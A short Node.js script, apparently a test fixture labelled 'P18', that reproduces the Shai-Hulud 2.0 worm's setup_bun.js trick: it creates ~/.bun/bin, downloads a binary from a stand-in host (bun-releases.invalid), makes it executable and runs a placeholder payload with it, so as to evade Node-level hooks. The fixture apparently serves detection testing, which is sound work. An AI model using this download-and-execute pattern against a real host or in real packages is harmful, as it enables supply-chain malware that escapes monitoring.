// P18 in Node, like Shai-Hulud 2.0's setup_bun.js (2025): bring a runtime that Node-level hooks do not
// see — download Bun into ~/.bun/bin, make it executable, and run the real payload with it. The
// "download" is whatever the sink answers, so the last step only fails.
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const bin = path.join(os.homedir(), '.bun', 'bin', 'bun');
fs.mkdirSync(path.dirname(bin), { recursive: true });
fs.writeFileSync(path.join(__dirname, 'bun_environment.js'), 'console.log(1)\n');
http.get('http://bun-releases.invalid/bun-v1.3.2/bun-linux-x64', (res) => {
  const out = fs.createWriteStream(bin);
  res.pipe(out);
  out.on('close', () => {
    fs.chmodSync(bin, 0o755);
    spawnSync(bin, [path.join(__dirname, 'bun_environment.js')], { stdio: 'ignore' });
  });
}).on('error', () => {}).setTimeout(3000, function () { this.destroy(); });
